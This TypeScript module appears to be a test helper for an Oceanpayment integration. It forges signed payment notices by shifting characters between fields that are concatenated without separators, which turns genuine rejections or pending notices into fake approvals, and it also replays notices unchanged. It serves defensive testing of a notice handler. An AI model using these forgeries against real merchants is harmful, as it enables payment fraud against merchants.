/**
 * An attacker's toolbox against the notice URL, built only from what an attacker has: genuine
 * signed documents (a signed rejection the gateway answers to a pay request with a bad
 * signValue, a notice seen on the wire) and Oceanpayment's public field order. Oceanpayment
 * signs the values joined with no separator, so moving characters between neighbouring fields
 * keeps the signValue valid: every forgery here is such a shift (checked: the signed
 * concatenation is unchanged), or a genuine document replayed as is. Pure; no secureCode.
 */

/** The `paymentResult` signing order (pay answer and notice), restated from Oceanpayment's published table (docs/oceanpayment-wire.md). */
export const paymentResultOrder = [
  "account",
  "terminal",
  "order_number",
  "order_currency",
  "order_amount",
  "order_notes",
  "card_number",
  "payment_id",
  "payment_authType",
  "payment_status",
  "payment_details",
  "payment_risk",
] as const;

/** The published approval, as the face-to-face spec's sample notice writes it. */
export const approval = "80000:Transaction Approved";

/** Each attack of the money-safety issue (section 1), by what it starts from and what it changes. */
export const attackKinds = [
  /** The gateway's signed rejection of an attacker's request (no payment_id, 20013), posted as a notice unchanged. */
  "rejection_replay",
  /** That rejection, asked for with crafted notes, shifted into a success; its tail lands in payment_details. */
  "rejection_success_tail_in_details",
  /** The same, its tail in payment_risk, leaving a clean approval in payment_details. */
  "rejection_success_tail_in_risk",
  /** A genuine pending notice shifted to payment_authType=0-, payment_status=1. */
  "pending_to_success",
  /** The same with payment_id's first digit moved into card_number. */
  "payment_id_into_card_number",
  /** A genuine notice whose payment_id's last digit moves into payment_authType: another attempt. */
  "payment_id_into_auth_type",
  /** A genuine notice (pending or failure) seen on the wire, replayed unchanged. */
  "notice_replay",
] as const;
export type AttackKind = (typeof attackKinds)[number];

/** A flat document: element name → text. */
export type DocumentFields = Record<string, string>;

export interface Forgery {
  kind: AttackKind;
  fields: DocumentFields;
}

const unescapes: Record<string, string> = { "&amp;": "&", "&lt;": "<", "&gt;": ">", "&quot;": '"', "&apos;": "'" };
const escapes: Record<string, string> = { "&": "&amp;", "<": "&lt;", ">": "&gt;" };

/** The elements of a flat `<response>` document (`<a>text</a>` and `<a />`), read with a regular expression. */
export function documentFields(xml: string): DocumentFields {
  const fields: DocumentFields = {};
  for (const m of xml.matchAll(/<(\w+)\s*\/>|<(\w+)>([^<]*)<\/\2>/g)) {
    if (m[1] !== undefined) fields[m[1]] = "";
    else fields[m[2] as string] = (m[3] as string).replace(/&(?:amp|lt|gt|quot|apos);/g, (e) => unescapes[e] ?? e);
  }
  return fields;
}

/** What the signature covers: the values in the published order, joined with nothing. */
export function signedString(fields: DocumentFields): string {
  return paymentResultOrder.map((k) => fields[k] ?? "").join("");
}

/** The document as XML, every field in its given order (signValue included, as carried). */
export function renderDocument(fields: DocumentFields): string {
  const body = Object.entries(fields)
    .map(([k, v]) => `  <${k}>${v.replace(/[&<>]/g, (c) => escapes[c] ?? c)}</${k}>`)
    .join("\n");
  return `<?xml version="1.0" encoding="UTF-8"?>\n<response>\n${body}\n</response>\n`;
}

/** `genuine` with `edit` applied and the genuine signValue kept; throws unless the signed concatenation is unchanged. */
export function shifted(genuine: DocumentFields, edit: DocumentFields): DocumentFields {
  const forged = { ...genuine, ...edit };
  if (signedString(forged) !== signedString(genuine)) throw new Error(`not a shift: the signed concatenation of ${genuine.order_number ?? "?"} changed`);
  return forged;
}

/**
 * The notes an attacker puts in a pay request (with any bad signValue) so that the gateway's
 * signed rejection can be shifted into a success for `paymentId`: our own notes (the echo must
 * match), then `<payment_id>`, `0` (payment_authType), `1` (payment_status) and the approval.
 */
export function shiftableNotes(ourNotes: string, paymentId: string): string {
  return `${ourNotes}${paymentId}01${approval}`;
}

/**
 * From a rejection asked for with {@link shiftableNotes}: the two successes of the issue, the
 * rejection's own tail (`payment_authType`, `payment_status`, its code and text) signed after
 * the approval, in payment_details or in payment_risk.
 */
export function rejectionSuccesses(rejection: DocumentFields, ourNotes: string, paymentId: string): Forgery[] {
  const notes = rejection.order_notes ?? "";
  if (notes !== shiftableNotes(ourNotes, paymentId)) throw new Error("the rejection does not carry the shiftable notes");
  const tail = ["card_number", "payment_id", "payment_authType", "payment_status", "payment_details", "payment_risk"].map((k) => rejection[k] ?? "").join("");
  const success = { order_notes: ourNotes, card_number: "", payment_id: paymentId, payment_authType: "0", payment_status: "1" };
  return [
    { kind: "rejection_success_tail_in_details", fields: shifted(rejection, { ...success, payment_details: `${approval}${tail}`, payment_risk: "" }) },
    { kind: "rejection_success_tail_in_risk", fields: shifted(rejection, { ...success, payment_details: approval, payment_risk: tail }) },
  ];
}

/** What a genuine notice seen on the wire can be turned into (nothing that changes a success's outcome exists). */
export function noticeForgeries(notice: DocumentFields): Forgery[] {
  const paymentId = notice.payment_id ?? "";
  const authType = notice.payment_authType ?? "";
  const status = notice.payment_status ?? "";
  const out: Forgery[] = [];
  if (status === "-1" && authType === "0") {
    out.push({ kind: "pending_to_success", fields: shifted(notice, { payment_authType: "0-", payment_status: "1" }) });
    if (paymentId.length > 1) {
      const card = `${notice.card_number ?? ""}${paymentId.slice(0, 1)}`;
      out.push({ kind: "payment_id_into_card_number", fields: shifted(notice, { card_number: card, payment_id: paymentId.slice(1), payment_authType: "0-", payment_status: "1" }) });
    }
  }
  if (paymentId.length > 1) {
    out.push({ kind: "payment_id_into_auth_type", fields: shifted(notice, { payment_id: paymentId.slice(0, -1), payment_authType: `${paymentId.slice(-1)}${authType}` }) });
  }
  if (status !== "1") out.push({ kind: "notice_replay", fields: notice });
  return out;
}
